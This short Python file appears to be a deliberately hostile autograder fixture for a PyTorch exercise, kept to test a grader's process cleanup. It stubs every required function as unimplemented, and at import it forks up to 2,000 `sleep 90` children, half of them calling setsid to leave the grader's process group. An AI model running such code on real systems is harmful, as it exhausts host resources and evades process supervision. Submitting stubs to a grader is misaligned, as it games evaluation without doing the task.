# Hostile submission: forks up to 2,000 children at import that become `sleep 90` (half escape into a new session).
import os
import shutil

import torch


def _stub(name):
    def stub(*args, **kwargs):
        raise NotImplementedError(f"ex01.{name}")

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in ("make_grid", "pairwise_sq_dists", "standardize", "flatten_images", "to_numpy", "from_numpy_shared",
              "x2_sin_grad", "x2_sin_autograd", "two_param_grads", "predict_no_grad", "detached_grad",
              "accumulated_grad", "per_batch_grads"):
    globals()[_name] = _stub(_name)  # every function is an unimplemented stub


_SLEEP = shutil.which("sleep") or "/bin/sleep"
for _i in range(2000):
    try:
        _pid = os.fork()
    except OSError:  # out of processes: stop
        break
    if _pid == 0:  # the child becomes `sleep 90`, with the sentinel in its argv
        try:
            if _i % 2:
                os.setsid()  # out of the grader's process group
            os.execv(_SLEEP, [f"__SENTINEL__-fork-{_i}", "90"])
        finally:
            os._exit(0)
